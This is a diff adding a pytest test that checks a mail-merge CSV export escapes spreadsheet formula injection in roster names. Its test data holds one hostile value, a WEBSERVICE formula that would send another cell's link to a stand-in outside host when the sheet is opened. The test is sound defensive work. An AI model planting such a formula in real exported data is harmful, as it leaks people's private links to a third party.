@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from rooms.admin.links import _csv
 from tests.office.one_door import Done, an_error, ninefold
 
 COHORTS = Path(__file__).parent.parent / "cohorts"
@@ -134,6 +135,18 @@ def test_links_come_as_a_table_for_mail_merge_and_as_cards(rehearsal: Path, tmp_
     # Whoever cannot scan the picture types what stands beneath it.
     assert f">{code}</text>" in cards[f"{SESSION}-0043321"]
     assert f"{code} " in ninefold("links", COHORT, "--data", rehearsal).stdout
+
+
+def test_no_spreadsheet_reckons_with_the_table_for_mail_merge() -> None:
+    """Names come from rosters, and the table is opened in a spreadsheet with everybody's links in it."""
+    candidate = {"number": "1", "name": '=WEBSERVICE("https://elsewhere.example?"&G2)'}
+    member = {"id": "j-okafor", "name": "J. Okafor", "key": "-a key may begin so"}
+    listed = {"sessions": [{"session": SESSION, "candidates": [candidate], "staff": [member]}]}
+
+    row, other = csv.DictReader(_csv(listed, [{"candidate:1": {}, "staff:j-okafor": {}}]).splitlines())
+
+    assert row["name"] == f"'{candidate['name']}"
+    assert (row["key"], other["key"]) == ("", member["key"])
 
 
 def test_the_record_is_printed_one_record_a_line(rehearsal: Path) -> None:
